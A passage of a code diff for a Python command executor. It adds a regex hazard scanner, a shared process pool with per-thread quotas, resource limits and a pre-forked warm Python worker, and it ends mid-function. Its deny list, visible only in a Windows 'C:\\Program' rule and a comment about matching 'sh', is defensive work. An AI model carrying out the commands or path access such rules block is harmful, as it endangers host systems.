@@ -3,21 +3,54 @@ Unified Executor - Enhanced Security
 Single function with comprehensive hazard detection
 """
 
+import os
+import json
+import signal
+import socket
+import itertools
 import subprocess
 import sys
+import time
+import codecs
+import asyncio
+import threading
+from collections import deque
+from concurrent.futures import Future
+from contextlib import contextmanager
 from pathlib import Path
 from dataclasses import dataclass
-from typing import List, Optional, Union
+from typing import Callable, Dict, Iterator, List, Optional, Tuple, Union
 from enum import Enum
 import re
+import shutil
+from functools import lru_cache
+
+from cancellation import CancellationToken
 
 # ============================================
 # Configuration
 # ============================================
 BASE_DIR = Path("workspace").resolve()
 VENV_DIR = BASE_DIR / "venv"
-PYTHON_BIN = VENV_DIR / "Scripts" / "python.exe"
-NPM_BIN = "npm.cmd"
+IS_WINDOWS = os.name == "nt"
+VENV_BIN_DIR = VENV_DIR / ("Scripts" if IS_WINDOWS else "bin")
+PYTHON_BIN = VENV_BIN_DIR / ("python.exe" if IS_WINDOWS else "python")
+PIP_BIN = VENV_BIN_DIR / ("pip.exe" if IS_WINDOWS else "pip")
+CANCEL_POLL_INTERVAL = 0.2  # seconds between cancellation checks of a running process
+MAX_CAPTURE_CHARS = int(os.getenv("EXECUTOR_MAX_CAPTURE_CHARS", "20000"))  # captured chars per stream, head and tail are kept
+STREAM_CHUNK_SIZE = 4096    # bytes read per chunk of streamed output
+MAX_PROCESSES = int(os.getenv("EXECUTOR_MAX_PROCESSES", str(min(os.cpu_count() or 2, 4))))   # concurrent commands on the host
+MAX_PROCESSES_PER_THREAD = int(os.getenv("EXECUTOR_MAX_PROCESSES_PER_THREAD", "1"))           # concurrent commands per chat thread
+RLIMIT_CPU_SECONDS = int(os.getenv("EXECUTOR_RLIMIT_CPU", "300"))      # CPU seconds per command (0 = unlimited, Linux only)
+RLIMIT_AS_MB = int(os.getenv("EXECUTOR_RLIMIT_AS_MB", "4096"))         # address space of python/pip commands (0 = unlimited, Linux only)
+WARM_PYTHON = os.getenv("EXECUTOR_WARM_PYTHON", "0") == "1"            # run python commands in a pre-forked worker (Linux only)
+WARM_PRELOAD = os.getenv("EXECUTOR_WARM_PRELOAD", "")                 # comma-separated modules the warm worker imports once
+WARM_WORKER_SCRIPT = Path(__file__).resolve().with_name("warm_worker.py")
+WARM_START_TIMEOUT = 30     # seconds to wait for the warm worker to start or fork a run
+WARM_RETRY_DELAY = 30       # seconds before a warm worker that failed to start is tried again
+COLD_MODULES = {"pip", "venv", "ensurepip"}     # `python -m` modules that change the environment, always spawned cold
+PIP_ENVIRONMENT_COMMANDS = {"install", "uninstall"}    # pip subcommands after which the toolchain and warm workers are refreshed
+WARM_SUPPORTED = sys.platform.startswith("linux") and hasattr(socket, "send_fds")
 
 # ============================================
 # ENHANCED Hazard Patterns (Comprehensive)
@@ -76,6 +109,73 @@ HAZARD_PATTERNS = [
     r'C:\\\\Program',               # Windows programs
 ]
 
+
+@dataclass(frozen=True)
+class HazardMatch:
+    """A hazard rule matched in a command"""
+    pattern: str        # rule from HAZARD_PATTERNS
+    start: int          # position of the match in the command string
+    end: int
+    text: str
+
+
+def _compile_hazard_rules() -> List[tuple]:
+    """(pattern, compiled regex) of every valid hazard rule, invalid regexes are skipped"""
+    rules = []
+    for pattern in HAZARD_PATTERNS:
+        try:
+            rules.append((pattern, re.compile(pattern, re.IGNORECASE)))
+        except re.error as e:
+            print(f"Skipping invalid hazard pattern {pattern!r}: {e}")
+    return rules
+
+
+def _rule_scanner(rules: List[tuple]) -> re.Pattern:
+    """All `rules` as one alternation of non-capturing groups"""
+    return re.compile("|".join(f"(?:{pattern})" for pattern, _ in rules), re.IGNORECASE)
+
+
+# Compiled once: the individual rules, all of them as one alternation so a command is checked in
+# a single scan, and per rule the alternation of the rules before it (HAZARD_PRECEDING[i]).
+# The scanners are non-capturing, group per rule makes a scan about 2x slower; the rule of a
+# hit is read from the lastgroup of HAZARD_RULE_AT, matched anchored at the hit's position
+HAZARD_RULES = _compile_hazard_rules()
+HAZARD_SCANNER = _rule_scanner(HAZARD_RULES)
+HAZARD_PRECEDING = [None] + [_rule_scanner(HAZARD_RULES[:i]) for i in range(1, len(HAZARD_RULES))]
+HAZARD_RULE_AT = re.compile("|".join(f"(?P<r{i}>{pattern})" for i, (pattern, _) in enumerate(HAZARD_RULES)), re.IGNORECASE)
+
+
+def _hazard_at(cmd_str: str, pos: int) -> tuple:
+    """(rule index, HazardMatch) of the first rule of HAZARD_PATTERNS matching at `pos`"""
+    m = HAZARD_RULE_AT.match(cmd_str, pos)
+    rule = int(m.lastgroup[1:])
+    return rule, HazardMatch(HAZARD_RULES[rule][0], m.start(), m.end(), m.group())
+
+
+def scan_hazards(cmd_str: str) -> List[HazardMatch]:
+    """
+    Hazard rules matching the command, with positions, ordered by position.
+    One scan finds every non-overlapping hit. A rule earlier in HAZARD_PATTERNS
+    can still match inside a hit (`sh` in "localhost"), so the positions inside
+    the hits are checked against the rules before the first one found; the first
+    rule that matches anywhere is always reported.
+    """
+    matches = []
+    first = len(HAZARD_RULES)
+    for m in HAZARD_SCANNER.finditer(cmd_str):
+        rule, match = _hazard_at(cmd_str, m.start())
+        first = min(first, rule)
+        matches.append(match)
+    for hit in list(matches):
+        while first and hit.end - hit.start > 1:
+            m = HAZARD_PRECEDING[first].search(cmd_str, hit.start + 1)
+            if m is None or m.start() >= hit.end:
+                break
+            first, match = _hazard_at(cmd_str, m.start())
+            matches.append(match)
+    return sorted(matches, key=lambda match: (match.start, match.end))
+
+
 # ============================================
 # Command Type Detection
 # ============================================
@@ -134,6 +234,7 @@ def validate_command(command: Union[str, List[str]]) -> tuple[bool, Optional[str
     """
     Validate command for safety
     Returns: (is_valid, error_message, matched_pattern)
+    The error message lists every matched rule with its position (see scan_hazards).
     """
     # Normalize to string for validation
     if isinstance(command, list):
@@ -144,14 +245,14 @@ def validate_command(command: Union[str, List[str]]) -> tuple[bool, Optional[str
     if not cmd_str.strip():
         return False, "Empty command is not allowed", None
     
-    # Check for hazardous patterns using regex
-    for pattern in HAZARD_PATTERNS:
-        try:
-            if re.search(pattern, cmd_str, re.IGNORECASE):
-                return False, f"Hazardous pattern detected: {pattern}", pattern
-        except re.error:
-            # Invalid regex, skip it
-            continue
+    # Check for hazardous patterns (single pass for safe commands)
+    matches = scan_hazards(cmd_str)
+    if matches:
+        # matched_pattern stays the first rule of HAZARD_PATTERNS that matched
+        order = {pattern: i for i, pattern in enumerate(HAZARD_PATTERNS)}
+        pattern = min((match.pattern for match in matches), key=order.__getitem__)
+        found = ", ".join(f"{match.pattern} at {match.start} ({match.text!r})" for match in matches)
+        return False, f"Hazardous pattern detected: {found}", pattern
     
     # Get command type
     cmd_type = detect_command_type(command)
@@ -169,28 +270,500 @@ def validate_workspace_path(file_path: str) -> Path:
     return target_path
 
 
+# ============================================
+# Process Pool
+# ============================================
+class ProcessPool:
+    """
+    Bounded pool of command slots shared by every caller of execute().
+
+    At most `max_processes` commands run at once and at most `per_thread` per
+    chat thread. Waiting callers are served first come, first served: a slot
+    goes to the oldest waiter whose thread is below its quota, so a thread at
+    its quota does not hold up the others. Threads wait with acquire(),
+    coroutines with acquire_async() on their event loop, in the same queue.
+    """
+
+    def __init__(self, max_processes: int = MAX_PROCESSES, per_thread: int = MAX_PROCESSES_PER_THREAD):
+        self.max_processes = max(max_processes, 1)
+        self.per_thread = max(per_thread, 1)
+        self._cond = threading.Condition()
+        self._waiting: deque = deque()          # FIFO of waiting thread ids (one entry per caller)
+        self._active: Dict[str, int] = {}       # thread id -> running commands
+        self._running = 0
+        self._async_waiters: Dict[int, Tuple[asyncio.AbstractEventLoop, asyncio.Event]] = {}  # id(ticket) -> wakeup of a coroutine
+        self._waits: deque = deque(maxlen=1000) # recent queue waits in seconds
+        self._served = 0
+        self._total_wait = 0.0
+
+    def _grantable(self, ticket: list) -> bool:
+        """True if `ticket` is the oldest waiter that may start now"""
+        if self._running >= self.max_processes:
+            return False
+        for waiting in self._waiting:
+            if self._active.get(waiting[0], 0) < self.per_thread:
+                return waiting is ticket
+        return False
+
+    def acquire(self, thread_id: str, cancel_token: Optional[CancellationToken] = None) -> bool:
+        """Wait for a slot, False if the run was cancelled while waiting"""
+        ticket = [thread_id]
+        queued_at = time.monotonic()
+        with self._cond:
+            self._waiting.append(ticket)
+            try:
+                while not self._grantable(ticket):
+                    if cancel_token is not None and cancel_token.cancelled:
+                        return False
+                    self._cond.wait(CANCEL_POLL_INTERVAL)
+            finally:
+                self._waiting.remove(ticket)
+                self._notify()
+            self._grant(thread_id, queued_at)
+        return True
+
+    async def acquire_async(self, thread_id: str, cancel_token: Optional[CancellationToken] = None) -> bool:
+        """acquire() for coroutines: waits on the event loop instead of occupying a worker thread"""
+        ticket = [thread_id]
+        wakeup = asyncio.Event()
+        queued_at = time.monotonic()
+        with self._cond:
+            self._waiting.append(ticket)
+            self._async_waiters[id(ticket)] = (asyncio.get_running_loop(), wakeup)
+        try:
+            while True:
+                wakeup.clear()
+                with self._cond:
+                    if self._grantable(ticket):
+                        self._grant(thread_id, queued_at)
+                        return True
+                if cancel_token is not None and cancel_token.cancelled:
+                    return False
+                try:
+                    await asyncio.wait_for(wakeup.wait(), CANCEL_POLL_INTERVAL)
+                except asyncio.TimeoutError:
+                    pass
+        finally:
+            with self._cond:
+                self._waiting.remove(ticket)
+                del self._async_waiters[id(ticket)]
+                self._notify()
+
+    def _grant(self, thread_id: str, queued_at: float) -> None:
+        """Count a slot as taken by `thread_id` (with the lock held)"""
+        self._running += 1
+        self._active[thread_id] = self._active.get(thread_id, 0) + 1
+        waited = time.monotonic() - queued_at
+        self._waits.append(waited)
+        self._served += 1
+        self._total_wait += waited
+
+    def _notify(self) -> None:
+        """Wake every waiter to re-check its turn (with the lock held)"""
+        self._cond.notify_all()
+        for loop, wakeup in self._async_waiters.values():
+            try:
+                loop.call_soon_threadsafe(wakeup.set)
+            except RuntimeError:
+                pass  # the waiter's loop is closed
+
+    def release(self, thread_id: str) -> None:
+        with self._cond:
+            self._running -= 1
+            self._active[thread_id] -= 1
+            if not self._active[thread_id]:
+                del self._active[thread_id]
+            self._notify()
+
+    @contextmanager
+    def slot(self, thread_id: str, cancel_token: Optional[CancellationToken] = None) -> Iterator[bool]:
+        """Hold a slot for the duration of the block, yields False if cancelled while queued"""
+        acquired = self.acquire(thread_id, cancel_token)
+        try:
+            yield acquired
+        finally:
+            if acquired:
+                self.release(thread_id)
+
+    def stats(self) -> Dict[str, object]:
+        """Running and queued commands, and queue wait times (recent p50/p99, overall mean/max)"""
+        with self._cond:
+            waits = sorted(self._waits)
+            return {
+                "max_processes": self.max_processes,
+                "per_thread": self.per_thread,
+                "running": self._running,
+                "queued": len(self._waiting),
+                "running_per_thread": dict(self._active),
+                "served": self._served,
+                "wait_mean": self._total_wait / self._served if self._served else 0.0,
+                "wait_p50": waits[len(waits) // 2] if waits else 0.0,
+                "wait_p99": waits[min(int(len(waits) * 0.99), len(waits) - 1)] if waits else 0.0,
+                "wait_max": waits[-1] if waits else 0.0,
+            }
+
+
+process_pool = ProcessPool()
+
+
+def _resource_limits(cmd_type: CommandType) -> Optional[Callable[[], None]]:
+    """
+    preexec_fn applying RLIMIT_CPU (and RLIMIT_AS for python/pip) in the child, None off Linux.
+    npm/npx get no address space limit, V8 reserves far more virtual memory than it uses.
+    """
+    if not sys.platform.startswith("linux") or (not RLIMIT_CPU_SECONDS and not RLIMIT_AS_MB):
+        return None
+    import resource
+    cpu = RLIMIT_CPU_SECONDS
+    address_space = RLIMIT_AS_MB * 1024 * 1024 if cmd_type in (CommandType.PYTHON, CommandType.PIP) else 0
+
+    def apply_limits():
+        if cpu:
+            resource.setrlimit(resource.RLIMIT_CPU, (cpu, cpu))
+        if address_space:
+            resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))
+    return apply_limits
+
+
+async def _acquire_slot(thread_id: str, cancel_token: Optional[CancellationToken]) -> bool:
+    """Wait for a pool slot on the event loop, no thread is held while queued (the pool is shared with the sync execute())"""
+    return await process_pool.acquire_async(thread_id, cancel_token)
+
+
+def _queue_cancelled(command: Union[str, List[str]], cmd_type: CommandType) -> CommandResult:
+    return CommandResult(
+        stdout="",
+        stderr="Process cancelled while waiting for a free executor slot",
+        exit_code=-1,
+        command=command,
+        command_type=cmd_type
+    )
+
+
+# ============================================
+# Warm Python Worker
+# ============================================
+class WarmProcess:
+    """A run forked by the warm worker, with the part of asyncio.subprocess.Process execute_streaming uses"""
+
+    def __init__(self, pid: int, stdout_fd: int, stderr_fd: int, exited: Future):
+        self.pid = pid
+        self.stdout: Optional[asyncio.StreamReader] = None
+        self.stderr: Optional[asyncio.StreamReader] = None
+        self._fds = [stdout_fd, stderr_fd]
+        self._exited = exited
+
+    async def open_streams(self) -> None:
+        """Read the output pipes with the running event loop"""
+        self.stdout = await _pipe_reader(self._fds.pop(0))
+        self.stderr = await _pipe_reader(self._fds.pop(0))
+
+    @property
+    def returncode(self) -> Optional[int]:
+        return self._exited.result() if self._exited.done() else None
+
+    async def wait(self) -> int:
+        return await asyncio.wrap_future(self._exited)
+
+    def kill(self) -> None:
+        if not self._exited.done():
+            try:
+                os.kill(self.pid, signal.SIGKILL)
+            except ProcessLookupError:
+                pass
+
+    def discard(self) -> None:
+        """Kill a run nobody reads, closing its pipes"""
+        self.kill()
+        while self._fds:
+            os.close(self._fds.pop())
+
+
+async def _pipe_reader(fd: int) -> asyncio.StreamReader:
+    reader = asyncio.StreamReader()
+    loop = asyncio.get_running_loop()
+    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), os.fdopen(fd, "rb", buffering=0))
+    return reader
+
+
+class _WarmUnavailable(Exception):
+    """The warm worker is not running and could not be started"""
+
+
+class WarmPythonWorker:
+    """
+    Pre-forked python process (warm_worker.py) for one interpreter, e.g. the workspace venv python.
+
+    The worker imports WARM_PRELOAD once and forks a child per run, so a run
+    skips interpreter startup and the preloaded imports, and starts from the
+    same module cache as every other run. start() returns None when the worker
+    cannot take the run (not started, crashed, no reply); the caller then
+    spawns the command cold. A crashed worker is restarted on the next run.
+    """
+
+    def __init__(self, python: str, preload: str = WARM_PRELOAD):
+        self.python = python
+        self.preload = preload
+        self._lock = threading.Lock()
+        self._process: Optional[subprocess.Popen] = None
+        self._sock: Optional[socket.socket] = None
+        self._pending: Dict[int, Tuple[Future, Future]] = {}    # run id -> (pid, exit code) of the current worker
+        self._ids = itertools.count(1)
+        self._failed_at = float("-inf")
+        self.preloaded: List[str] = []
+        self.starts = 0
+        self.runs = 0
+        self.fallbacks = 0
+
+    def warm_up(self) -> bool:
+        """Start the worker ahead of the first run, False if it is unavailable"""
+        with self._lock:
+            return self._ensure_started()
+
+    def _ensure_started(self) -> bool:
+        if self._sock is not None and self._process.poll() is None:
+            return True
+        self._detach()
+        if time.monotonic() - self._failed_at < WARM_RETRY_DELAY:
+            return False
+
+        sock, child_sock = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+        process = None
+        try:
+            process = subprocess.Popen(
+                [self.python, str(WARM_WORKER_SCRIPT), str(child_sock.fileno()), self.preload],
+                pass_fds=(child_sock.fileno(),),
+                cwd=str(BASE_DIR),
+                stdin=subprocess.DEVNULL,
+                stdout=subprocess.DEVNULL
+            )
+            child_sock.close()
+            sock.settimeout(WARM_START_TIMEOUT)
+            ready = json.loads(sock.recv(65536) or b"{}")
+            if not ready.get("ready"):
+                raise RuntimeError(f"no ready message (exit code {process.poll()})")
+            sock.settimeout(None)
+        except Exception as e:
+            print(f"Warm python worker for {self.python} unavailable, spawning cold: {e}")
+            if process is not None:
+                process.kill()
+                process.wait()
+            child_sock.close()
+            sock.close()
+            self._failed_at = time.monotonic()
+            return False
+
+        self._process, self._sock, self._pending = process, sock, {}
+        self.preloaded = ready.get("preloaded", [])
+        self.starts += 1
+        threading.Thread(target=self._read_replies, args=(process, sock, self._pending), daemon=True).start()
+        return True
+
+    def _detach(self) -> None:
+        """Stop sending runs to the current worker, it exits once its running children are done"""
+        sock, self._sock, self._process = self._sock, None, None
+        if sock is not None:
+            try:
+                sock.shutdown(socket.SHUT_WR)
+            except OSError:
+                pass
+
+    def _read_replies(self, process: subprocess.Popen, sock: socket.socket, pending: Dict[int, Tuple[Future, Future]]) -> None:
+        """Resolve the pid and exit code futures of the runs, until the worker exits"""
+        while True:
+            try:
+                data = sock.recv(65536)
+            except OSError:
+                data = b""
+            if not data:
+                break
+            reply = json.loads(data)
+            with self._lock:
+                futures = pending.pop(reply["id"], None) if "pid" not in reply else pending.get(reply["id"])
+            if futures is None:
+                continue
+            started, exited = futures
+            if "pid" in reply:
+                started.set_result(reply["pid"])
+            elif "exit_code" in reply:
+                exited.set_result(reply["exit_code"])
+            else:
+                started.set_exception(RuntimeError(reply.get("error", "invalid reply")))
+        sock.close()
+        process.wait()
+
+        # the worker died: its children are orphans nobody reports on
+        with self._lock:
+            orphans = list(pending.values())
+            pending.clear()
+        for started, exited in orphans:
+            if not started.done():
+                started.set_exception(RuntimeError(f"warm worker exited (code {process.returncode})"))
+            elif not exited.done():
+                try:
+                    os.kill(started.result(), signal.SIGKILL)
+                except ProcessLookupError:
+                    pass
+                exited.set_result(-signal.SIGKILL)
+
+    def start(self, mode: str, target: str, argv: List[str]) -> Optional[WarmProcess]:
+        """Fork a run of `target` (mode: path, module or code) in the worker, None to fall back to a cold spawn"""
+        stdout_r, stdout_w = os.pipe()
+        stderr_r, stderr_w = os.pipe()
+        request = {
+            "mode": mode,
+            "target": target,
+            "argv": argv,
+            "cwd": str(BASE_DIR),
+            "rlimit_cpu": RLIMIT_CPU_SECONDS,
+            "rlimit_as": RLIMIT_AS_MB * 1024 * 1024,
+        }
+        try:
+            with self._lock:
+                if not self._ensure_started():
+                    raise _WarmUnavailable()
+                request["id"] = run_id = next(self._ids)
+                started, exited = self._pending[run_id] = (Future(), Future())
+                try:
+                    socket.send_fds(self._sock, [json.dumps(request).encode()], [stdout_w, stderr_w])
+                except OSError:
+                    self._pending.pop(run_id, None)
+                    self._process.kill()    # crashed or stuck, restarted by the next run
+                    raise
+            pid = started.result(timeout=WARM_START_TIMEOUT)
+        except Exception as e:
+            if not isinstance(e, _WarmUnavailable):
+                print(f"Warm python run failed to start, spawning cold: {e}")
+            os.close(stdout_r)
+            os.close(stderr_r)
+            with self._lock:
+                self.fallbacks += 1
+            return None
+        finally:
+            os.close(stdout_w)
+            os.close(stderr_w)
+
+        with self._lock:
+            self.runs += 1
+        return WarmProcess(pid, stdout_r, stderr_r, exited)
+
+    def close(self) -> None:
+        with self._lock:
+            self._detach()
+
+    def stats(self) -> Dict:
+        with self._lock:
+            return {
+                "python": self.python,
+                "running": self._sock is not None and self._process.poll() is None,
+                "preloaded": self.preloaded,
+                "active_runs": len(self._pending),
+                "starts": self.starts,
+                "runs": self.runs,
+                "fallbacks": self.fallbacks,
+            }
+
+
+_warm_workers: Dict[str, WarmPythonWorker] = {}
+_warm_workers_lock = threading.Lock()
+
+
+def warm_worker(python: str) -> WarmPythonWorker:
+    """The warm worker of an interpreter, created on first use"""
+    with _warm_workers_lock:
+        worker = _warm_workers.get(python)
+        if worker is None:
+            worker = _warm_workers[python] = WarmPythonWorker(python)
+        return worker
+
+
+def shutdown_warm_workers() -> None:
+    """Retire the warm workers, e.g. after a pip install changed what they preloaded"""
+    with _warm_workers_lock:
+        workers = list(_warm_workers.values())
+        _warm_workers.clear()
+    for worker in workers:
+        worker.close()
+
+
+def warm_up_python() -> bool:
+    """Start the warm worker of the routed interpreter ahead of the first run (if EXECUTOR_WARM_PYTHON is on)"""
+    if not (WARM_PYTHON and WARM_SUPPORTED):
+        return False
+    return warm_worker(resolve_toolchain().python[0]).warm_up()
+
+
+def warm_python_stats() -> Dict:
+    with _warm_workers_lock:
+        workers = list(_warm_workers.values())
+    return {"enabled": WARM_PYTHON and WARM_SUPPORTED, "workers": [worker.stats() for worker in workers]}
+
+
+def _warm_target(cmd: List[str]) -> Optional[Tuple[str, str, List[str]]]:
+    """INTERNAL: (mode, target, argv) of a routed python command the warm worker can run, None otherwise"""
+    args = cmd[1:]
+    if not args:
+        return None
+    if not args[0].startswith("-"):
+        return "path", args[0], args
+    if args[0] == "-c" and len(args) > 1:
+        return "code", args[1], ["-c"] + args[2:]
+    if args[0] == "-m" and len(args) > 1 and args[1] not in COLD_MODULES:
+        return "module", args[1], args[1:]
+    return None
+
+
+async def _spawn_warm(cmd: List[str], cmd_type: CommandType) -> Optional[WarmProcess]:
+    """INTERNAL: Start a python command in the warm worker, None if it has to be spawned cold"""
+    target = _warm_target(cmd) if cmd_type == CommandType.PYTHON else None
+    if target is None:
+        return None
+    starting = asyncio.ensure_future(asyncio.to_thread(warm_worker(cmd[0]).start, *target))
+    try:
+        process = await asyncio.shield(starting)
+    except asyncio.CancelledError:
+        # the caller is gone, do not leave the run behind if it still gets forked
+        starting.add_done_callback(
+            lambda done: done.result().discard() if not done.cancelled() and done.exception() is None and done.result() else None
+        )
+        raise
+    if process is not None:
+        await process.open_streams()
+    return process
+
+
 # ============================================
 # Core Unified Executor
 # ============================================
 def execute(
     command: Union[str, List[str]],
     timeout: int = 60,
-    description: Optional[str] = None
+    description: Optional[str] = None,
+    cancel_token: Optional[CancellationToken] = None,
+    thread_id: str = "default"
 ) -> CommandResult:
     """
     UNIFIED EXECUTOR: Single function handles all command types
     
     Automatically detects command type and routes appropriately:
-    - npm/npx → npm.cmd (Windows)
+    - npm/npx → npm/npx on PATH (npm.cmd/npx.cmd on Windows)
     - pip → venv pip or system pip
     - python → venv python or system python
     
+    The executables are resolved once (see resolve_toolchain) and re-resolved
+    after the workspace venv is created or packages are installed.
+    
     Enhanced security with comprehensive hazard detection!
     
     Args:
         command: Command as string or list
         timeout: Max execution time in seconds (default: 60)
         description: Optional description for logging
+        cancel_token: Optional token, the process is killed once it is cancelled
+        thread_id: Chat thread running the command, for the per-thread process quota
+    
+    Commands wait for a slot of the shared process pool (EXECUTOR_MAX_PROCESSES,
+    EXECUTOR_MAX_PROCESSES_PER_THREAD) and run with CPU/memory rlimits on Linux.
     
     Returns:
         CommandResult with stdout, stderr, exit_code, success, command_type
@@ -202,59 +775,42 @@ def execute(
         result = execute(["npm", "install", "express"])
     """
     try:
-        # Validate command
         actual_command = command
+        prepared = _prepare_command(command, cancel_token)
+        if isinstance(prepared, CommandResult):
+            return prepared
+        cmd, cmd_type = prepared
 
-        is_valid, error, pattern = validate_command(command)
-        if not is_valid:
-            return CommandResult(
-                stdout="",
-                stderr=f"Validation error: {error}",
-                exit_code=-1,
-                command=actual_command,
-                command_type=CommandType.UNKNOWN
+        # Execute once a pool slot is free
+        with process_pool.slot(thread_id, cancel_token) as acquired:
+            if not acquired:
+                return _queue_cancelled(actual_command, cmd_type)
+            process = subprocess.Popen(
+                cmd,
+                cwd=str(BASE_DIR),
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+                text=True,
+                shell=False,
+                preexec_fn=_resource_limits(cmd_type)
             )
+            stdout, stderr, cancelled = _wait_process(process, cmd, timeout, cancel_token)
+        if _changes_environment(cmd, cmd_type):
+            invalidate_toolchain()
         
-        # Detect command type
-        cmd_type = detect_command_type(command)
-        
-        # Normalize to list
-        if isinstance(command, str):
-            cmd_list = command.strip().split()
-        else:
-            cmd_list = list(command)
-        
-        # Route and prepare command
-        print(f"cmd: {cmd_list}")
-        cmd = _route_command(cmd_list, cmd_type)
-
-        print(f"cmd: {cmd}")
-        
-        if not cmd:
+        if cancelled:
             return CommandResult(
-                stdout="",
-                stderr="Failed to route command",
+                stdout=stdout,
+                stderr=stderr + "\nProcess cancelled",
                 exit_code=-1,
                 command=actual_command,
                 command_type=cmd_type
             )
-        
-        print(f"\nExecuting: {' '.join(cmd)} (Type: {cmd_type.value.upper()})")
-        print(str(BASE_DIR))
-        # Execute
-        result = subprocess.run(
-            cmd,
-            cwd=str(BASE_DIR),
-            capture_output=True,
-            text=True,
-            shell=False,
-            timeout=timeout
-        )
-        
+
         return CommandResult(
-            stdout=result.stdout,
-            stderr=result.stderr,
-            exit_code=result.returncode,
+            stdout=stdout,
+            stderr=stderr,
+            exit_code=process.returncode,
             command=actual_command,
             command_type=cmd_type
         )
@@ -278,37 +834,312 @@ def execute(
         )
 
 
+async def execute_streaming(
+    command: Union[str, List[str]],
+    timeout: int = 60,
+    cancel_token: Optional[CancellationToken] = None,
+    on_output: Optional[Callable[[str, str], None]] = None,
+    max_capture_chars: int = MAX_CAPTURE_CHARS,
+    thread_id: str = "default",
+    warm_python: Optional[bool] = None
+) -> CommandResult:
+    """
+    STREAMING EXECUTOR: same validation and routing as execute(), but the
+    process runs with asyncio and its output is read chunk by chunk while it runs.
+
+    Args:
+        command: Command as string or list
+        timeout: Max execution time in seconds (default: 60)
+        cancel_token: Optional token, the process is killed once it is cancelled
+        on_output: Called with (stream name, text chunk) for every chunk of stdout/stderr
+        max_capture_chars: Captured characters per stream, only the head and tail of longer output are kept
+        thread_id: Chat thread running the command, for the per-thread process quota
+        warm_python: Run python commands in the warm worker (default: EXECUTOR_WARM_PYTHON),
+            spawned cold when the worker is unavailable
+
+    Returns:
+        CommandResult with the (capped) stdout and stderr
+    """
+    actual_command = command
+    try:
+        prepared = _prepare_command(command, cancel_token)
+        if isinstance(prepared, CommandResult):
+            return prepared
+        cmd, cmd_type = prepared
+
+        if not await _acquire_slot(thread_id, cancel_token):
+            return _queue_cancelled(actual_command, cmd_type)
+        readers = None
+        try:
+            warm = WARM_PYTHON if warm_python is None else warm_python
+            process = await _spawn_warm(cmd, cmd_type) if warm and WARM_SUPPORTED else None
+            if process is None:
+                process = await asyncio.create_subprocess_exec(
+                    *cmd,
+                    cwd=str(BASE_DIR),
+                    stdout=asyncio.subprocess.PIPE,
+                    stderr=asyncio.subprocess.PIPE,
+                    preexec_fn=_resource_limits(cmd_type)
+                )
+            stdout, stderr = HeadTailBuffer(max_capture_chars), HeadTailBuffer(max_capture_chars)
+            readers = asyncio.gather(
+                _read_stream(process.stdout, "stdout", stdout, on_output),
+                _read_stream(process.stderr, "stderr", stderr, on_output)
+            )
+            status = await _wait_async_process(process, timeout, cancel_token)
+            await readers
+        finally:
+            process_pool.release(thread_id)
+            if readers is not None and not readers.done():
+                readers.cancel()    # the turn was cancelled mid-run, stop reading the killed process
+                await asyncio.gather(readers, return_exceptions=True)
+        if _changes_environment(cmd, cmd_type):
+            invalidate_toolchain()
+
+        if status == "cancelled":
+            return CommandResult(stdout.text(), stderr.text() + "\nProcess cancelled", -1, actual_command, cmd_type)
+        if status == "timeout":
+            return CommandResult(stdout.text(), stderr.text() + f"\nProcess timed out (>{timeout}s)", -1, actual_command, cmd_type)
+        return CommandResult(stdout.text(), stderr.text(), process.returncode, actual_command, cmd_type)
+
+    except Exception as e:
+        return CommandResult(
+            stdout="",
+            stderr=f"Error: {str(e)}",
+            exit_code=-1,
+            command=actual_command,
+            command_type=detect_command_type(command)
+        )
+
+
+# ============================================
+# Internal Process Handling
+# ============================================
+def _prepare_command(
+    command: Union[str, List[str]],
+    cancel_token: Optional[CancellationToken]
+) -> Union[Tuple[List[str], CommandType], CommandResult]:
+    """INTERNAL: Validate and route a command
+    Returns: (routed command, command type), or a CommandResult describing why it cannot run"""
+    actual_command = command
+
+    is_valid, error, pattern = validate_command(command)
+    if not is_valid:
+        return CommandResult(
+            stdout="",
+            stderr=f"Validation error: {error}",
+            exit_code=-1,
+            command=actual_command,
+            command_type=CommandType.UNKNOWN
+        )
+    
+    # Detect command type
+    cmd_type = detect_command_type(command)
+    
+    # Normalize to list
+    if isinstance(command, str):
+        cmd_list = command.strip().split()
+    else:
+        cmd_list = list(command)
+    
+    # Route and prepare command
+    print(f"cmd: {cmd_list}")
+    cmd = _route_command(cmd_list, cmd_type)
+
+    print(f"cmd: {cmd}")
+    
+    if not cmd:
+        return CommandResult(
+            stdout="",
+            stderr="Failed to route command",
+            exit_code=-1,
+            command=actual_command,
+            command_type=cmd_type
+        )
+    
+    print(f"\nExecuting: {' '.join(cmd)} (Type: {cmd_type.value.upper()})")
+    print(str(BASE_DIR))
+    if cancel_token is not None and cancel_token.cancelled:
+        return CommandResult(
+            stdout="",
+            stderr="Process cancelled before start",
+            exit_code=-1,
+            command=actual_command,
+            command_type=cmd_type
+        )
+    return cmd, cmd_type
+
+
+class HeadTailBuffer:
+    """Captured output capped at `limit` chars: the first half and the most recent half are kept"""
+
+    def __init__(self, limit: int):
+        self.head_limit = limit // 2
+        self.tail_limit = limit - self.head_limit
+        self.head = ""
+        self.tail = ""
+        self.omitted = 0
+
+    def write(self, text: str) -> None:
+        if len(self.head) < self.head_limit:
+            room = self.head_limit - len(self.head)
+            self.head += text[:room]
+            text = text[room:]
+        if not text:
+            return
+        self.tail += text
+        if len(self.tail) > self.tail_limit:
+            self.omitted += len(self.tail) - self.tail_limit
+            self.tail = self.tail[-self.tail_limit:]
+
+    def text(self) -> str:
+        if not self.omitted:
+            return self.head + self.tail
+        return f"{self.head}\n... [{self.omitted} chars omitted] ...\n{self.tail}"
+
+
+async def _read_stream(
+    stream: asyncio.StreamReader,
+    name: str,
+    buffer: HeadTailBuffer,
+    on_output: Optional[Callable[[str, str], None]]
+) -> None:
+    """INTERNAL: Read a process pipe chunk by chunk into the buffer, forwarding every chunk"""
+    decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
+    while True:
+        data = await stream.read(STREAM_CHUNK_SIZE)
+        text = decoder.decode(data, final=not data)
+        if text:
+            buffer.write(text)
+            if on_output is not None:
+                on_output(name, text)
+        if not data:
+            return
+
+
+async def _wait_async_process(
+    process: asyncio.subprocess.Process,
+    timeout: int,
+    cancel_token: Optional[CancellationToken]
+) -> str:
